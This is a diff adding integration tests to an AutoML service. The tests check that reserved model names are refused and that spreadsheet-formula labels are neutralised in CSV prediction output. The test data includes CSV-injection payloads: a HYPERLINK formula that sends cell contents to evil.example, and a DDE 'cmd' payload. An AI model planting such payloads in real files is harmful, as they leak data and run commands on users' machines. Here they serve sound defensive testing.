@@ -1,7 +1,9 @@
 import { join } from 'node:path';
-import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
+import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { TrainingRecord } from '../../functions/shared/automl/training-store';
+import { isFormulaLike } from '../../functions/shared/tabular/csv-dialect';
 import { scanAll } from '../../functions/shared/scan-all';
 import { savedQueries } from '../../infra/queries.cjs';
 import { runInsightsQuery } from '../../scripts/audit/insights';
@@ -301,5 +303,71 @@ describe('a French Excel export: Windows-1252, `;`, decimal commas, accented nam
     const [answerHeader, first] = output.split('\r\n');
     expect(answerHeader).toBe(`\uFEFF${header.slice(1).join(';')};prediction;score;error`);
     expect(first!.startsWith(`${cells[0]!.slice(1).join(';')};${cells[0]![0]};`)).toBe(true);
+  });
+});
+
+describe('names a training may not take (issue #20.12)', { timeout: 120_000 }, () => {
+  const csv = ['x,y', ...Array.from({ length: 40 }, (_, i) => `${i % 5},${i % 2 === 0 ? 'a' : 'b'}`)].join('\n') + '\n';
+
+  it.each(['digits', 'iris', 'unknown'])('%s over HTTP: 409 reserved-model-name at once', async (model) => {
+    const response = await train(model, 'target=y', csv);
+    expect(response.status).toBe(409);
+    expect(await response.json()).toMatchObject({ code: 'reserved-model-name' });
+  });
+
+  it('an upload to training/digits/: a failed training, nothing in the models bucket, digits still the image model', async () => {
+    await t.s3.send(
+      new PutObjectCommand({
+        Bucket: t.platform.uploadsBucket,
+        Key: 'training/digits/table.csv',
+        Body: csv,
+        Metadata: { target: 'y' },
+      }),
+    );
+    const record = await eventually(async () => {
+      const all = await scanAll<TrainingRecord>(t.documents, 'vigie-local-trainings');
+      return all.find((r) => r.model === 'digits');
+    }, 60_000);
+    expect(record).toMatchObject({ status: 'failed', error: { code: 'reserved-model-name' } });
+    const stored = await t.s3.send(new ListObjectsV2Command({ Bucket: 'vigie-local-models', Prefix: 'models/digits/' }));
+    expect(stored.Contents ?? []).toEqual([]);
+    const digits = (await (await api('/v1/models/digits')).json()) as { input?: { kind?: string } };
+    expect(JSON.stringify(digits)).toContain('"kind":"image"');
+  });
+});
+
+describe('labels that are spreadsheet formulas (issue #20.9)', { timeout: 240_000 }, () => {
+  const labels = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
+  const quoted = (label: string) => `"${label.replace(/"/g, '""')}"`;
+  const table = ['x,noise,label', ...Array.from({ length: 60 }, (_, i) => `${i % 4},${(i * 7) % 11},${quoted(labels[i % 4]!)}`)];
+  const toScore = 'x,noise,note\n0,1,=1+1\n1,2,ok\n2,3,ok\n3,4,-1.5\n';
+
+  /** The prediction column of a scored CSV, and every cell of it, as a spreadsheet would read them. */
+  const cellsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];
+
+  it('are learnt, then written neutralised in an HTTP text/csv answer', async () => {
+    const training = await trainOver('formula-labels', 'target=label&timeBudgetSeconds=5', `${table.join('\n')}\n`);
+    expect(training).toMatchObject({ status: 'succeeded', task: 'classification' });
+    const approval = await api(`/v1/models/formula-labels/versions/${training.version}/approval`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ decision: 'approved', approver: 'Jane Reviewer' }),
+    });
+    expect(approval.status).toBe(200);
+
+    const answer = await eventually(async () => {
+      const response = await api('/v1/models/formula-labels/predict', {
+        method: 'POST',
+        headers: { 'content-type': 'text/csv', accept: 'text/csv' },
+        body: toScore,
+      });
+      return response.status === 200 ? response.text() : undefined;
+    }, 30_000);
+    // Batch outputs are written by the same scoreCsv (tests/unit/csv-injection.test.ts).
+    const rows = cellsOf(answer);
+    expect(rows.map((row) => row.prediction)).toEqual(labels.map((label) => `'${label}`));
+    expect(rows.flatMap((row) => Object.values(row)).filter(isFormulaLike)).toEqual([]);
+    // An echoed formula is neutralised too; a negative number stays a number.
+    expect(rows.map((row) => row.note)).toEqual(["'=1+1", 'ok', 'ok', '-1.5']);
   });
 });
